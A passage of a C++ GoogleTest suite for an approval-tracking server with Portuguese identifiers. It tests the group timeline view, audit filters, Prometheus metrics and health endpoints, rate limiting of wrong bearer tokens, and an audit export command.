    event("2026-11-05T10:00:00", server::eventKind::GroupPhase, QStringLiteral("0001"), p1, p2);
    event("2026-11-06T10:00:00", server::eventKind::Decision, {}, {}, QStringLiteral("Homologar"));
    event("2026-11-06T10:05:00", server::eventKind::Justification, QStringLiteral("0002"), {}, {}, QStringLiteral("testado"));
    log("2026-11-09T10:00:00", p1, p2);  // a log written long after any phase change of its kind

    const std::string html = get("/painel/grupo/" + group.toStdString(), cookie()).body;
    const std::string timeline = between(html, "class=\"linha-do-tempo\"", "</table>");
    QStringList order;
    static const QRegularExpression row(QStringLiteral("<tr><td>([0-9-]+ [0-9:]+)</td><td>([^<]+)</td><td>([^<]*)</td>"));
    for (const QRegularExpressionMatch &m : row.globalMatch(QString::fromStdString(timeline)))
        order.append(m.captured(1).left(10) + u' ' + m.captured(2) + u' ' + m.captured(3));
    const QStringList expected{
        QStringLiteral("2026-11-01 fase do grupo Ana Operadora"),   // the log's operator, one row with its event
        QStringLiteral("2026-11-02 tag Bruno Consulta"),
        QStringLiteral("2026-11-03 fase do grupo Ana Operadora"),
        QStringLiteral("2026-11-05 fase do grupo Ana Operadora"),
        QStringLiteral("2026-11-06 decisão Bruno Consulta"),        // named by the justification given next
        QStringLiteral("2026-11-06 justificativa Bruno Consulta"),
        QStringLiteral("2026-11-09 fase do grupo Ana Operadora"),
    };
    EXPECT_EQ(order, expected) << timeline;
    EXPECT_NE(timeline.find("testado</td></tr>"), std::string::npos);
    // The path through the phases: 001, 002, 001, 002, 002.
    const std::string svg = between(html, "<svg", "</svg>");
    EXPECT_EQ(QString::fromStdString(between(svg, "<polyline points=\"", "\"")).split(u' ', Qt::SkipEmptyParts).size(), 5);
}

TEST_F(ServerBoard, AuditFiltersByDayAndProduct)
{
    const QString group = createGroup(QStringLiteral("Filtrado"));
    ok(QStringLiteral("setTagGrupo"), args({group, QStringLiteral("0001"), QStringLiteral("file:///r/tags/TST_1"), QStringLiteral("N")}));
    const QString today = QDate::currentDate().toString(QStringLiteral("yyyy-MM-dd"));
    const QString tomorrow = QDate::currentDate().addDays(1).toString(QStringLiteral("yyyy-MM-dd"));
    const QString yesterday = QDate::currentDate().addDays(-1).toString(QStringLiteral("yyyy-MM-dd"));
    const auto tags = [&](const server::AuditFilter &filter) {
        int count = 0;
        for (const server::AuditRow &row : server::auditTrail(db(), filter))
            count += row.event.kind == server::eventKind::Tag ? 1 : 0;
        return count;
    };
    EXPECT_EQ(tags({}), 1);
    EXPECT_EQ(tags({today, today, {}, {}}), 1);
    EXPECT_EQ(tags({tomorrow, {}, {}, {}}), 0);
    EXPECT_EQ(tags({{}, yesterday, {}, {}}), 0);
    EXPECT_EQ(tags({{}, {}, kProduct, {}}), 1);
    EXPECT_EQ(tags({{}, {}, QStringLiteral("0000000002"), {}}), 0);
    EXPECT_THROW(server::auditTrail(db(), {QStringLiteral("07/12/2026"), {}, {}, {}}), server::ServerError);
    EXPECT_FALSE(refused(QStringLiteral("setTagGrupo"), args({group, QStringLiteral("0001"), QStringLiteral(" "), QStringLiteral("N")}))
                     .isEmpty());
}

// The Prometheus text format: every sample of a declared family, valid names and labels, a
// histogram's buckets never decreasing up to its count.
void expectPrometheusText(const QString &text)
{
    static const QRegularExpression sample(QStringLiteral(
        "^([a-zA-Z_:][a-zA-Z0-9_:]*)(\\{[a-zA-Z_][a-zA-Z0-9_]*=\"(?:[^\"\\\\\\n]|\\\\.)*\"(?:,[a-zA-Z_][a-zA-Z0-9_]*=\"(?:[^\"\\\\\\n]|\\\\.)*\")*\\})? "
        "(-?[0-9.]+(?:e[-+]?[0-9]+)?|\\+Inf|NaN)$"));
    static const QRegularExpression type(QStringLiteral("^# TYPE ([a-zA-Z_:][a-zA-Z0-9_:]*) (counter|gauge|histogram)$"));
    QMap<QString, QString> families;
    QMap<QString, double> lastBucket;
    for (const QString &line : text.split(u'\n', Qt::SkipEmptyParts)) {
        if (line.startsWith(QStringLiteral("# HELP ")))
            continue;
        const QRegularExpressionMatch declared = type.match(line);
        if (declared.hasMatch()) {
            families.insert(declared.captured(1), declared.captured(2));
            continue;
        }
        const QRegularExpressionMatch m = sample.match(line);
        ASSERT_TRUE(m.hasMatch()) << line.toStdString();
        QString family = m.captured(1);
        for (const char *suffix : {"_bucket", "_sum", "_count"}) {
            if (family.endsWith(QLatin1String(suffix)) && families.value(family.chopped(int(std::strlen(suffix)))) == u"histogram")
                family.chop(int(std::strlen(suffix)));
        }
        ASSERT_TRUE(families.contains(family)) << "undeclared: " << line.toStdString();
        if (m.captured(1).endsWith(QStringLiteral("_bucket"))) {
            const QString series = m.captured(2).section(QStringLiteral(",le="), 0, 0);
            EXPECT_GE(m.captured(3).toDouble(), lastBucket.value(series)) << line.toStdString();
            lastBucket[series] = m.captured(3).toDouble();
        } else if (m.captured(1).endsWith(QStringLiteral("_count"))) {
            EXPECT_EQ(m.captured(3).toDouble(), lastBucket.value(m.captured(2).chopped(1))) << line.toStdString();
        }
    }
}

TEST_F(ServerBoard, MetricsAndHealthOverHttp)
{
    if (testingPostgres())
        GTEST_SKIP() << "the HTTP tests run on the SQLite file";
    createGroup(QStringLiteral("Medido"));
    QTemporaryDir dir;
    ServerProcess server;
    // One worker: the health check must be asked of the connection that opened the file.
    ASSERT_TRUE(server.start(database().text(), writePrivateFile(dir.filePath(QStringLiteral("token")), kToken),
                             {QStringLiteral("--workers"), QStringLiteral("1")}))
        << server.error().toStdString();
    httplib::Client client("127.0.0.1", server.port());
    const httplib::Headers auth{{"Authorization", "Bearer " + kToken.toStdString()}};
    ASSERT_TRUE(client.Post("/VOP42000.rdmGrupSoliHom/GetInitialData", auth, R"({"args":["0001"]})", "application/json"));
    ASSERT_TRUE(client.Post("/VOP42000.rdmGrupSoliHom/getGrupo", auth, R"({"args":["x","y"]})", "application/json"));
    ASSERT_TRUE(client.Post("/VOP42000.rdmGrupSoliHom/GetSoli", httplib::Headers{}, R"({"args":["1"]})", "application/json"));

    EXPECT_EQ(client.Get("/metricas")->status, 401);
    const auto metrics = client.Get("/metricas", auth);
    ASSERT_TRUE(metrics);
    EXPECT_EQ(metrics->status, 200);
    EXPECT_EQ(metrics->get_header_value("Content-Type").rfind("text/plain; version=0.0.4", 0), 0u);
    const QString text = QString::fromStdString(metrics->body);
    expectPrometheusText(text);
    EXPECT_TRUE(text.contains(QStringLiteral("homologa_chamadas_total{metodo=\"GetInitialData\",resultado=\"ok\"} 1\n")));
    EXPECT_TRUE(text.contains(QStringLiteral("homologa_chamadas_total{metodo=\"getGrupo\",resultado=\"erro\"} 1\n")));
    EXPECT_TRUE(text.contains(QStringLiteral("homologa_chamada_segundos_count{metodo=\"GetInitialData\"} 1\n")));
    EXPECT_TRUE(text.contains(QStringLiteral("homologa_respostas_http_total{codigo=\"401\"} 2\n")));
    EXPECT_TRUE(text.contains(QStringLiteral("homologa_grupos{fase=\"001\"} 1\n")));
    EXPECT_TRUE(QRegularExpression(QStringLiteral("\nhomologa_conexoes_abertas [1-9]")).match(text).hasMatch());

    EXPECT_EQ(client.Get("/saude")->status, 200);
    ASSERT_TRUE(QFile::remove(database().text()));
    const auto down = client.Get("/saude");
    ASSERT_TRUE(down);
    EXPECT_EQ(down->status, 503);
}

// Over HTTP: the scheme in any case on every path; 40 wrong tokens on the metrics meet the
// limit, which then holds on the API too; behind the trusted proxy each client counts alone.
TEST_F(ServerBoard, WrongTokensMeetTheLimitOverHttp)
{
    if (testingPostgres())
        GTEST_SKIP() << "the HTTP tests run on the SQLite file";
    QTemporaryDir dir;
    ServerProcess server;
    ASSERT_TRUE(server.start(database().text(), writePrivateFile(dir.filePath(QStringLiteral("token")), kToken),
                             {QStringLiteral("--trusted-proxy"), QStringLiteral("127.0.0.1")}))
        << server.error().toStdString();
    httplib::Client client("127.0.0.1", server.port());
    const std::string call = "/VOP42000.rdmGrupSoliHom/getReleaseProd";
    const auto from = [](const std::string &client, const std::string &authorization) {
        return httplib::Headers{{"X-Forwarded-For", client}, {"Authorization", authorization}};
    };
    for (const std::string scheme : {"Bearer ", "bearer ", "BEARER ", "Bearer  "}) {
        EXPECT_EQ(client.Get("/metricas", from("198.51.100.1", scheme + kToken.toStdString()))->status, 200) << scheme;
        EXPECT_EQ(client.Get("/painel/colunas", from("198.51.100.1", scheme + kToken.toStdString()))->status, 200) << scheme;
        EXPECT_EQ(client.Post(call, from("198.51.100.1", scheme + kToken.toStdString()), R"({"args":["0000000001"]})", "application/json")->status,
                  200)
            << scheme;
    }
    int limited = 0;
    for (int i = 0; i < 40; ++i) {
        const auto answer = client.Get("/metricas", from("198.51.100.7", "Bearer errado"));
        ASSERT_TRUE(answer);
        limited += answer->status == 429 ? 1 : 0;
    }
    EXPECT_GE(limited, 30);
    const auto api = client.Post(call, from("198.51.100.7", "Bearer " + kToken.toStdString()), R"({"args":["0000000001"]})", "application/json");
    ASSERT_TRUE(api);
    EXPECT_EQ(api->status, 429);
    EXPECT_EQ(client.Post(call, from("198.51.100.8", "Bearer " + kToken.toStdString()), R"({"args":["0000000001"]})", "application/json")->status,
              200);
}

TEST_F(ServerBoard, AuditCommandLine)
{
    if (testingPostgres())
        GTEST_SKIP() << "the command runs on the SQLite file";
    createGroup(QStringLiteral("Auditado"));
    ok(QStringLiteral("Insere_Patch"), args({kProduct, QStringLiteral("5"), QStringLiteral("01"), QStringLiteral("024"), QStringLiteral("024")}));
    struct Case {
        QStringList args;
        int status;
        QByteArray starts;
    };
    const QString db = database().text();
    const Case cases[] = {
        {{QStringLiteral("--format"), QStringLiteral("csv")}, 0, "\xEF\xBB\xBF" "Data e hora;"},
        {{QStringLiteral("--format"), QStringLiteral("json"), QStringLiteral("--product"), kProduct}, 0, "["},
        {{QStringLiteral("--format"), QStringLiteral("xml")}, 2, ""},
        {{QStringLiteral("--format"), QStringLiteral("csv"), QStringLiteral("--since"), QStringLiteral("2026-13-01")}, 1, ""},
    };
    for (const Case &c : cases) {
        QProcess audit;
        audit.start(QCoreApplication::applicationDirPath() + QStringLiteral("/homologa-server"),
                    QStringList{QStringLiteral("audit"), QStringLiteral("--db"), db} + c.args);
        ASSERT_TRUE(audit.waitForFinished(30000));
        EXPECT_EQ(audit.exitCode(), c.status) << c.args.join(u' ').toStdString();
        const QByteArray out = audit.readAllStandardOutput();
        EXPECT_TRUE(out.startsWith(c.starts)) << out.left(80).toStdString();
        if (c.status == 0) {
            EXPECT_TRUE(out.contains("patch 5.01.024")) << c.args.join(u' ').toStdString();
        }
    }
}

}  // namespace
